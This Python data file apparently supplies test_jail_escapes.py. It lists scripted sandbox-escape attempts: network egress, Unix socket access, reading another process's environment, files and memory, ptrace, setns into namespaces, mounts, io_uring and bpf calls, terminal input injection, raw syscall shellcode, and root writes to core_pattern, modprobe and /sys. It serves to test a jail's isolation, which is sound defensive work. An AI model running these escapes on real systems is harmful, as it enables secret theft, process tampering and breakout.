"""The attacks on the jail, as scripts: what hostile code would try from inside. Data for test_jail_escapes.py.

Lives here: one row an attack: a sentence, a script for the standard library of Python 3.9, what is known to remain. May not live
here: judging. A script wins by reaching the attacker's servers outside, by printing WON, or by printing the victim's secret.
"""

from __future__ import annotations

from typing import NamedTuple

PRELUDE = """
import ctypes, errno, json, os, socket, struct, sys, time
F = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
V, LOOT = F["victim"], b"loot"
X86 = os.uname().machine == "x86_64"
def won(*what): print("WON", *what, flush=True)
def call(number, *arguments):
    r = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if r < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r
def tcp(host, port, family=socket.AF_INET, protocol=0):
    s = socket.socket(family, socket.SOCK_STREAM, protocol); s.settimeout(5); s.connect((host, port)); s.sendall(LOOT)
    return s.recv(10)
def unix(path, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_UNIX, kind); s.settimeout(5); s.connect(path); s.sendall(LOOT)
    return s.recv(10) if kind == socket.SOCK_STREAM else b""
def each(acts):
    for act in acts:
        try: act()
        except OSError as e: print("no:", e, file=sys.stderr)
"""


class Attack(NamedTuple):
    """One row of the table."""

    sentence: str
    script: str
    bare: bool = True
    """It wins without a jail, as the same user: shown, so that a row that fails for another reason is seen."""
    remains: tuple[str, ...] = ()
    """Identities for whom it still wins in the jail: a documented expectation (proxy/README.md), not a hole to be found."""
    only: tuple[str, ...] = ("root", "user")
    remark: str = ""
    """What the test must set up: `cwd=session`, `inherit`."""


NETWORK = [
    Attack("TCP to the machine's loopback", "tcp('127.0.0.1', F['tcp'])"),
    Attack("TCP to the machine's own address", "tcp(F['address'], F['everywhere'])"),
    Attack("TCP over IPv6", "tcp('::1', F['tcp6'], socket.AF_INET6)"),
    Attack("TCP by an IPv4-mapped address", "tcp('::ffff:127.0.0.1', F['tcp'], socket.AF_INET6)"),
    Attack("TCP to 0.0.0.0", "tcp('0.0.0.0', F['tcp'])"),
    Attack("data in the SYN (MSG_FASTOPEN)", "s = socket.socket(); s.sendto(LOOT, 0x20000000, ('127.0.0.1', F['tcp']))"),
    Attack(
        "a socket bound to another device",
        "s = socket.socket(); s.setsockopt(1, 25, b'eth0'); s.connect((F['address'], F['everywhere']))",
        bare=False,
    ),
    Attack("MPTCP", "tcp('127.0.0.1', F['tcp'], protocol=262)", bare=False),
    Attack("UDP", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(LOOT, ('127.0.0.1', F['udp']))"),
    Attack(
        "UDP to the machine's own address",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(LOOT, (F['address'], F['udp']))",
    ),
    Attack(
        "UDP by an IPv4-mapped address",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(LOOT, ('::ffff:127.0.0.1', F['udp']))",
    ),
    Attack(
        "UDP broadcast",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(LOOT, ('255.255.255.255', F['udp']))",
        bare=False,
    ),
    Attack("ping sockets (ICMP)", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); won()", bare=False),
    Attack(
        "raw IP sockets",
        "each([lambda p=p: (socket.socket(socket.AF_INET, socket.SOCK_RAW, p), won(p)) for p in (1, 6, 17, 255)])",
        bare=False,
    ),
    Attack(
        "raw packets",
        "each([lambda k=k: (socket.socket(17, k, 0), won(k)) for k in (socket.SOCK_RAW, socket.SOCK_DGRAM)])",
        bare=False,
    ),
    Attack("the old way to packets", "socket.socket(socket.AF_INET, 10, 3); won()", bare=False),
    Attack("vsock, which no network namespace contains", "s = socket.socket(40, socket.SOCK_STREAM); won()", bare=False),
    Attack(
        "every other family of sockets",
        "each([lambda f=f, k=k: (socket.socket(f, k), won(f, k)) for f in range(3, 46) if f not in (10, 16) for k in (1, 2, 3, 5)])",
        bare=False,
    ),
    Attack(
        "transports that the listeners do not see",
        "each([lambda p=p: (socket.socket(socket.AF_INET, k, p), won(p)) for k, p in ((1, 132), (5, 132), (2, 136), (1, 33))])",
        bare=False,
    ),
    Attack(
        "netlink beyond routes",
        "each([lambda p=p: (socket.socket(16, socket.SOCK_RAW, p), won(p)) for p in range(1, 23)])",
        bare=False,
    ),
    Attack(
        "a route or an address of one's own",
        """
def ask(kind, body):
    s = socket.socket(16, socket.SOCK_RAW, 0); s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    number = struct.unpack_from("=i", s.recv(4096), 16)[0]
    won(kind) if number == 0 else print("no:", number, file=sys.stderr)
ask(20, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("203.0.113.99")))
ask(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1))
ask(16, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH4s", 8, 3, b"x9\\0\\0"))
""",
        bare=False,
    ),
    Attack(
        "socketpairs that are no Unix sockets",
        "each([lambda f=f: (socket.socketpair(f, 1), won(f)) for f in (2, 10, 30, 40)])",
        bare=False,
    ),
]

UNIX = [
    Attack("a Unix socket by its path", "unix(F['stream'])"),
    Attack("a Unix datagram socket by its path", "unix(F['dgram'], socket.SOCK_DGRAM)"),
    Attack(
        "sendto on half of a socketpair",
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(LOOT, F['dgram'])",
    ),
    Attack("an abstract Unix socket", "unix('\\0' + F['abstract'])"),
    Attack("a Unix socket through /proc/self/root", "unix('/proc/self/root' + F['stream'])"),
    Attack("a Unix socket through a symbolic link", "os.symlink(F['stream'], 'link'); unix('link')"),
    Attack("a Unix socket in a directory of the session", "unix(F['session'] + '/s.sock')"),
    Attack("a Unix socket beside the old working directory", "unix('s.sock')", remark="cwd=session"),
    Attack("another name of a Unix socket that is only known by one", "unix(F['hardlink'])", remains=("root", "user")),
    Attack(
        "the daemon's own sockets",
        "each([lambda n=n, k=k: (unix(F['runtime'] + '/' + n, k), won(n)) for n, k in (('control.sock', 5), ('admin.sock', 1))])",
        bare=False,
    ),
    Attack("the daemon's key", "print(open(F['runtime'] + '/signing.key').read().replace('loot', 'WON'))", bare=False),
    Attack("descriptors that were left open", "each([lambda n=n: os.write(n, LOOT) for n in range(3, 256)])", remark="inherit"),
    Attack(
        "a directory that was left open",
        "d = [n for n in range(3, 256) if os.path.isdir(f'/proc/self/fd/{n}')]; unix(f'/proc/self/fd/{d[0]}/stream.sock')",
        remark="inherit",
    ),
]

OTHERS = [
    Attack("the victim's environment", "print(open(f'/proc/{V}/environ').read())"),
    Attack("the victim's files", "print(open(f'/proc/{V}/fd/9').read())"),
    Attack("the victim's root directory", "unix(f'/proc/{V}/root' + F['stream'])"),
    Attack("the victim's working directory", "unix(f'/proc/{V}/cwd/stream.sock')"),
    Attack("the victim's memory", "open(f'/proc/{V}/mem', 'rb').close(); won()"),
    Attack(
        "the launcher's environment",
        "print(open(f'/proc/{os.getppid()}/environ').read().replace('OUTSIDE_MARK', '\\nWON'))",
        bare=False,
    ),
    Attack(
        "the launcher's descriptors",
        "p = f'/proc/{os.getppid()}/fd'\neach([lambda n=n: (os.readlink(f'{p}/{n}'), os.open(f'{p}/{n}', 0), os.getppid() != 1 and won(n)) for n in range(16)])",
        bare=False,
    ),
    Attack(
        "the command lines of others",
        "each([lambda p=p: print(open(f'/proc/{p}/cmdline').read()) for p in os.listdir('/proc') if p.isdigit()])",
        remains=("user",),
    ),
    Attack(
        "ptrace",
        "[libc.ptrace(r, V, 0, 0) == 0 and (won(r), os.waitpid(V, 0x40000000) if r == 16 else 0, libc.ptrace(17, V, 0, 0)) for r in (0x4206,)]",
    ),
    Attack(
        "the victim's memory by system call",
        """
buffer = ctypes.create_string_buffer(16)
where = int(next(l for l in open(f"/proc/{V}/maps") if "r--p" in l or "r-xp" in l).split("-")[0], 16) if os.path.exists(f"/proc/{V}/maps") else 0
vector = struct.pack("QQ", ctypes.addressof(buffer), 16); remote = struct.pack("QQ", where, 16)
call(310 if X86 else 270, V, vector, 1, remote, 1, 0) == 16 and won()
""",
    ),
    Attack("the victim's descriptors by pidfd", "print(os.read(call(438, os.pidfd_open(V), 9, 0), 100))"),
    Attack(
        "the victim's namespaces",
        "each([lambda n=n: (call(308 if X86 else 268, os.open(f'/proc/{V}/ns/{n}', 0), 0), tcp('127.0.0.1', F['tcp'])) for n in ('user', 'net', 'mnt')])",
        bare=False,
    ),
    Attack(
        "the namespaces of number 1",
        "each([lambda n=n: (call(308 if X86 else 268, os.open(f'/proc/1/ns/{n}', 0), 0), tcp('127.0.0.1', F['tcp'])) for n in ('user', 'net', 'mnt')])",
        bare=False,
    ),
    Attack("kill", "os.kill(V, 9)"),
    Attack("kill by pidfd", "import signal; signal.pidfd_send_signal(os.pidfd_open(V), 9)"),
    Attack("kill everybody", "os.kill(-1, 9)", bare=False),
    Attack("change the victim's priority", "os.setpriority(os.PRIO_PROCESS, V, 19)", remains=("user",)),
    Attack("the victim's shared memory", "print(open('/dev/shm/' + F['shm']).read())"),
]

KERNEL = [
    Attack("io_uring", "call(425, 4, ctypes.create_string_buffer(120)); won()", bare=False),
    Attack("io_uring, the other calls", "each([lambda n=n: (call(n, 0, 0, 0, 0), won(n)) for n in (426, 427)])", bare=False),
    Attack("a user namespace of one's own", "libc.unshare(0x10000000) == 0 and won()", bare=False),
    Attack(
        "the same by clone",
        "r = call(56 if X86 else 220, 0x10000000 | 17, 0, 0, 0, 0); os._exit(0) if r == 0 else won()",
        bare=False,
    ),
    Attack(
        "the same by clone3",
        "r = call(435, struct.pack('=8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64); os._exit(0) if r == 0 else won()",
        bare=False,
    ),
    Attack(
        "any other namespace",
        "each([lambda f=f: libc.unshare(f) == 0 and won(hex(f)) for f in (0x20000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80)])",
        bare=False,
    ),
    Attack("mount", "libc.mount(b'none', b'/mnt', b'tmpfs', 0, None) == 0 and won()", bare=False),
    Attack(
        "lift the veils",
        "[libc.umount2(l.split()[4].encode(), 2) == 0 and won(l) for l in reversed(list(open('/proc/self/mountinfo')))]",
        bare=False,
    ),
    Attack(
        "bind around the veils",
        "os.mkdir('b'); [libc.mount(b'/', b'b', None, f, None) == 0 and won(f) for f in (4096, 4096 | 16384)]",
        bare=False,
    ),
    Attack(
        "the new mount calls",
        "each([lambda n=n: (call(n, -100, b'/', 1), won(n)) for n in (428, 429, 430, 432, 433, 442, 467)])",
        bare=False,
    ),
    Attack("another root", "os.chroot('.') or won()", bare=False, only=("user",)),
    Attack("keys of the user's session", "call(250 if X86 else 219, 0, -3, 0); won()", bare=False),
    Attack("bpf", "call(321 if X86 else 280, 5, ctypes.create_string_buffer(128), 128); won()", bare=False),
    Attack(
        "performance events",
        "call(298 if X86 else 241, ctypes.create_string_buffer(struct.pack('=II', 1, 112) + b'\\0' * 104), 0, -1, -1, 0); won()",
        bare=False,
    ),
    Attack("userfaultfd", "call(323 if X86 else 282, 0); won()", bare=False),
    Attack("files by handle", "call(304 if X86 else 265, -100, ctypes.create_string_buffer(24), 0); won()", bare=False),
    Attack("calls of the x32 machine", "X86 and (call(0x40000000 + 39), won())", bare=False),
    Attack(
        "calls of the i386 machine",
        "import mmap\nm = mmap.mmap(-1, 4096, prot=7); m.write(b'\\x53\\xb8\\x14\\0\\0\\0\\xcd\\x80\\x5b\\xc3')\n"
        "r = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))() if X86 else 0\nr > 0 and won(r)",
        bare=False,
    ),
    Attack(
        "typing into the terminal",
        """
import fcntl, pty, termios
ours, theirs = pty.openpty()
if os.fork() == 0:
    try:
        os.setsid(); fcntl.ioctl(theirs, termios.TIOCSCTTY, 0); fcntl.ioctl(theirs, 0x5412, b"x"); won()
    finally: os._exit(0)
os.wait()
""",
        bare=False,
    ),
    Attack(
        "set-user-id programs",
        "import subprocess; 'euid=0' in subprocess.run([F['suid']], capture_output=True, text=True).stdout and won()",
        only=("user",),
    ),
    Attack(
        "capabilities back",
        "each([lambda: libc.prctl(24, 21, 0, 0, 0), lambda: libc.capset(struct.pack('=Ii', 0x20080522, 0), struct.pack('=6I', *[0xffffffff] * 6)) == 0 and won()])",
        bare=False,
    ),
]

AS_ROOT = [
    Attack("run a program outside at a crash (core_pattern)", "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY); won()"),
    Attack(
        "any other kernel switch",
        "each([lambda p=p: (os.open(p, os.O_WRONLY), won(p)) for p in ('/proc/sysrq-trigger', '/proc/sys/kernel/modprobe', '/proc/sys/vm/overcommit_memory', '/proc/sys/net/core/somaxconn')])",
    ),
    Attack(
        "the switches of /sys",
        "[won(os.path.join(d, f)) for d, _, fs in os.walk('/sys') for f in fs if os.access(os.path.join(d, f), os.W_OK)]",
    ),
    Attack("control groups", "[won(d) for d, _, _ in os.walk('/sys/fs/cgroup') if os.access(d, os.W_OK)]"),
    Attack("a device node", "os.mknod('sda', 0o60600, os.makedev(8, 0)); won()"),
    Attack(
        "devices that exist",
        "[won(n) for n in os.listdir('/dev') if n in ('mem', 'kmem', 'port', 'kmsg', 'kvm', 'fuse', 'loop0', 'sda', 'vsock', 'vhost-vsock')]",
    ),
    Attack("a kernel module", "call(313 if X86 else 273, os.open('/dev/null', 0), b'', 0); won()"),
    Attack("the kernel's log", "call(103 if X86 else 116, 3, ctypes.create_string_buffer(64), 64); won()"),
    Attack("the clock", "each([lambda: (time.clock_settime(time.CLOCK_REALTIME, time.time()), won())])"),
    Attack("the machine's name", "socket.sethostname('x'); won()"),
]
AS_ROOT = [a._replace(bare=False, only=("root",)) for a in AS_ROOT]

TABLE = [*NETWORK, *UNIX, *OTHERS, *KERNEL, *AS_ROOT]
